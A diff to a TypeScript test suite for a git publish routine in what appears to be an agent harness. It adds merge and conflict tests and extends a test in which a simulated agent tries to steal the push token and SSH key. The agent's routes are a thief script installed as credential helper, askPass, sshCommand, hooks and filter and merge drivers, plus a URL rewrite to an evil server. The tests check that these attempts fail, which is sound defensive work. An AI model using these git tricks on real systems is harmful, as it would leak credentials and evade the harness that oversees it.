@@ -115,8 +115,35 @@ describe('from a remote to a branch that was pushed', () => {
     const theirs = commit(other, 'c.txt', 'theirs', 'theirs');
     git(other, 'push', '--quiet', 'origin', 'HEAD');
     git(worktree.path, 'commit', '--quiet', '--amend', '-m', 'one, best');
-    await expect(publish(repository, worktree, 'work', never)).rejects.toMatchObject({ refusal: 'diverged', retryable: true });
-    expect(git(remote, 'rev-parse', 'foray/T-5')).toBe(theirs);
+    await publish(repository, worktree, 'work', never);
+    expect(git(remote, 'merge-base', theirs, 'foray/T-5')).toBe(theirs);
+    expect(git(remote, 'log', '--format=%s', 'foray/T-5')).toContain('one, best');
+  });
+
+  it('brings in what others pushed meanwhile; a conflict with it is left for a person, and nothing is lost', async () => {
+    const repository = repositoryWith();
+    const worktree = await worktreeOf(repository, 'T-10');
+    commit(worktree.path, 'a.txt', 'one', 'one');
+    await publish(repository, worktree, 'work', never);
+    const other = path.join(home, 'reviewer');
+    git(home, 'clone', '--quiet', '--branch', 'foray/T-10', remote, other);
+    commit(other, 'theirs.txt', 'theirs', 'theirs');
+    git(other, 'push', '--quiet', 'origin', 'HEAD');
+    const ours = commit(worktree.path, 'ours.txt', 'ours', 'ours');
+    const together = await publish(repository, worktree, 'work', never);
+    expect(git(remote, 'ls-tree', '-r', '--name-only', 'foray/T-10')).toBe('README.md\na.txt\nours.txt\ntheirs.txt');
+    expect(git(worktree.path, 'merge-base', ours, 'HEAD')).toBe(ours);
+
+    git(other, 'pull', '--quiet');
+    commit(other, 'a.txt', 'their two', 'their two');
+    git(other, 'push', '--quiet', 'origin', 'HEAD');
+    const kept = commit(worktree.path, 'a.txt', 'our two', 'our two');
+    await expect(publish(repository, worktree, 'work', never)).rejects.toMatchObject({ refusal: 'conflict', retryable: false });
+    expect(git(worktree.path, 'rev-parse', 'HEAD')).toBe(kept);
+    expect(git(worktree.path, 'status', '--porcelain')).toBe('');
+    expect(git(remote, 'log', '-1', '--format=%s', 'foray/T-10')).toBe('their two');
+    expect(together?.sha).not.toBe(kept);
+    expect(await updateWorktree(repository, worktree, never)).toBe(false);
   });
 });
 
@@ -167,7 +194,8 @@ describe('an agent that wants the credential', () => {
   });
 
   it('gets nothing by its hooks, helpers and rewritten addresses', async () => {
-    const repository = repositoryWith(TOKEN, { ...process.env, HOME: home });
+    const ssh = { SSH_AUTH_SOCK: '/keys-of-the-daemon', GIT_SSH_COMMAND: 'ssh -i /keys-of-the-daemon' };
+    const repository = repositoryWith(TOKEN, { ...process.env, HOME: home, ...ssh });
     const worktree = await worktreeOf(repository, 'T-9');
     const loot = path.join(home, 'loot');
     const thief = path.join(home, 'thief.sh');
@@ -179,6 +207,8 @@ describe('an agent that wants the credential', () => {
       config('credential.helper', `!${thief}`);
       config('core.askPass', thief);
       config('core.sshCommand', thief);
+      config('filter.thief.clean', thief);
+      config('merge.thief.driver', thief);
       config(`url.${evil.origin}/.insteadOf`, `${server.origin}/`);
     }
     for (const hook of ['pre-push', 'reference-transaction', 'post-commit', 'pre-commit']) {
@@ -188,10 +218,13 @@ describe('an agent that wants the credential', () => {
       writeFileSync(path.join(repository.control, 'hooks', hook), readFileSync(thief), { mode: 0o755 });
     }
     writeFileSync(path.join(repository.control, 'config'), `[credential]\n\thelper = !${thief}\n`);
+    writeFileSync(path.join(worktree.path, '.gitattributes'), '* filter=thief merge=thief\n');
     writeFileSync(path.join(worktree.path, 'a.txt'), 'work');
     await publish(repository, worktree, 'work', never);
     const stolen = existsSync(loot) ? readFileSync(loot, 'utf8') : '';
+    expect(stolen).toContain('PATH=');
     expect(stolen).not.toContain(TOKEN);
+    expect(stolen).not.toContain('keys-of-the-daemon');
     expect(evil.requests).toEqual([]);
     expect(git(remote, 'log', '-1', '--format=%s', 'foray/T-9')).toBe('work');
     await evil.close();
